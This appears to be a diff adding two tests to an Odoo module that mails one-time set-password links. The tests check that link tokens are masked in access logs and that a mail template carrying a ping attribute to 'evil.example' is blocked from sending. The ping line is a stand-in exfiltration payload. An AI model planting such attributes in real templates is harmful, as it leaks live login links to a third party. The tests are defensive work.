@@ -2,6 +2,7 @@
 """Link mode: the mails carry a one-time link to choose a password, no password."""
 
 import html
+import logging
 import re
 import time
 from datetime import timedelta
@@ -14,6 +15,7 @@ from odoo.tests import HttpCase, tagged
 from odoo.tools import mute_logger
 
 from .. import compat
+from ..controllers.access_log import ACCESS_LOGGER
 from .common import message_html, smtp_server
 from .test_bulk_invite import BulkInviteMixin
 
@@ -112,6 +114,69 @@ class TestLinkMode(BulkInviteMixin, HttpCase):
         self.authenticate("jane.doe", NEW_PASSWORD)
         self.assertEqual(self.url_open("/my", allow_redirects=False).status_code, 200)
         self.assertFalse(self.link_works(link), "the link works a second time")
+
+    def test_opening_a_link_leaves_no_token_in_the_access_log(self):
+        link = link_from(self.send_random_password_mail(self.jane))
+        token = re.search(r"token=([^&]+)", link).group(1)
+        signup_token = "odoo-signup-token-0123456789"
+        with self.assertLogs(ACCESS_LOGGER, logging.INFO) as logs:
+            # a mail scanner's GET, or the contact opening the page and leaving
+            self.assertTrue(self.link_works(link))
+            # Odoo's own sign-up links take their token on the same terms
+            self.url_open(f"/web/signup?token={signup_token}&redirect=%2Fmy")
+        access_log = "\n".join(logs.output)
+        self.assertIn("/web/reset_password?", access_log)
+        self.assertIn("token=***", access_log)
+        self.assertIn("/web/signup?token=***&redirect=", access_log)
+        self.assertNotIn(token, access_log)
+        self.assertNotIn(signup_token, access_log)
+        # the GET did not use the link up
+        self.assert_password_chosen(self.choose_password(link, NEW_PASSWORD))
+
+    def test_a_link_that_pings_elsewhere_is_not_sent(self):
+        """A template editor's ``ping`` would have browsers report the click, and
+        the live link, to another address."""
+        ben = self.make_contact(name="Ben", username="ben")
+        # a manager who also edits mail templates (administrators are both)
+        editors = self.env.ref("mail.group_mail_template_editor")
+        self.manager[compat.GROUPS_FIELD] += editors
+        template = self.env.ref("partner_website_login.mail_template_random_password")
+        as_manager = template.with_user(self.manager)
+        original = str(as_manager.body_html)
+        link = "<a t-att-href=\"ctx.get('website_set_password_url')\""
+        pinging = original.replace(link, f'{link} ping="https://evil.example/p"')
+        self.assertNotEqual(pinging, original)
+        as_manager.body_html = pinging
+        self.assertIn('ping="https://evil.example/p"', template.body_html)
+
+        def send_to_both():
+            action = (self.jane | ben).with_user(self.manager)
+            window = (
+                self.env["random.password.mail"]
+                .with_user(self.manager)
+                .browse(action.action_random_password_mail()["res_id"])
+            )
+            with smtp_server(self.env) as smtp:
+                notification = window.action_send()
+            return smtp.messages, notification["params"]["message"]
+
+        messages, said = send_to_both()
+        self.assertEqual(messages, [])
+        self.assertIn("0 set-password links sent", said)
+        self.assertIn("no other attribute than style, class, title", said)
+        self.assertIn("Ben", said)
+        self.assertFalse(
+            self.env["partner.login.credential"]
+            .sudo()
+            .search([("user_id.partner_id", "in", (self.jane | ben).ids)])
+        )
+        self.assertNotEqual(self.jane.website_access_state, "invited")
+        # the editor's mistake undone: both get their link
+        as_manager.body_html = original
+        messages, said = send_to_both()
+        self.assertEqual(len(messages), 2)
+        self.assertIn("2 set-password links sent", said)
+        self.assertTrue(self.link_works(link_from(messages[0])))
 
     def test_a_newer_link_or_revoking_access_ends_a_link(self):
         first = self.send_random_password_mail(self.jane)
